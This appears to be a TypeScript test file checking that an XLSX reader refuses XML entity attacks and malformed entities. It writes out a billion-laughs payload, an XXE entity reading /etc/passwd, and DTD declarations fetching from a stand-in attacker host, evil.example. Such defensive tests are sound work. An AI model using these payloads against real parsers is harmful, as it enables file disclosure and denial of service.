import { readXlsx } from "../../src/hosts/xlsx";
import { failureOf, filesOf, zipped } from "../hosts/xlsx/build-package";
import { everything } from "../hosts/xlsx/everything";

const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, at) => `<!ENTITY a${String(at)} "${`&a${at === 0 ? "" : String(at - 1)};`.repeat(10)}">`).join("")}]>`;
const EXTERNAL = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`;
const PARAMETER = `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>`;
const QUIET = `<!DOCTYPE worksheet PUBLIC "-//X//Y" "http://evil.example/y.dtd">`;

const files = filesOf(everything);
/** Every part that reading opens. */
const PARTS = Object.keys(files).filter((name) => name !== "[Content_Types].xml");

function with16Bits(xml: string): Uint8Array {
  const text = `\ufeff${xml}`;
  return Uint8Array.from([...text].flatMap((sign) => [sign.charCodeAt(0) & 255, sign.charCodeAt(0) >> 8]));
}

describe("entity expansion: nothing is declared, nothing is fetched, nothing grows", () => {
  describe.each(PARTS)("%s", (part) => {
    const xml = String(files[part]).replace(/^<\?xml[^>]*\?>/, "");
    const read = (content: string | Uint8Array, streamAbove?: number) =>
      failureOf(() => readXlsx(zipped({ ...files, [part]: content }), streamAbove === undefined ? {} : { streamAbove }))
        .code;

    it.each([
      ["a billion laughs", LAUGHS],
      ["a file from outside", EXTERNAL],
      ["a declaration from outside", PARAMETER],
      ["a declaration that declares nothing", QUIET],
    ])("%s is refused, in any encoding, whole and streamed", (_, doctype) => {
      const spoiled = `<?xml version="1.0"?>${doctype}${xml}`;
      expect([
        read(spoiled),
        read(`<!-- x -->${doctype}${xml}`),
        read(with16Bits(doctype + xml)),
        read(spoiled, 0),
      ]).toEqual(Array(4).fill("doctype-refused"));
    });
  });

  it.each(["&xxe;", "&a11;", "&nbsp;", "&;", "&#x110000;", "&#-1;", "&lt"])(
    "%s in a text is no character",
    (entity) => {
      const xml = String(files["xl/worksheets/sheet1.xml"]).replace("<t>文</t>", `<t>${entity}</t>`);
      expect(failureOf(() => readXlsx(zipped({ ...files, "xl/worksheets/sheet1.xml": xml }))).code).toBe("broken-xml");
    },
  );

  it("a character written as a number makes no more characters", () => {
    const xml = String(files["xl/worksheets/sheet1.xml"]).replace("<t>文</t>", "<t>&amp;lt;&#38;#60;</t>");
    const workbook = readXlsx(zipped({ ...files, "xl/worksheets/sheet1.xml": xml }));
    expect(workbook.sheets[0]?.rows[1]?.values[0]).toBe("&lt;&#60;");
  });
});
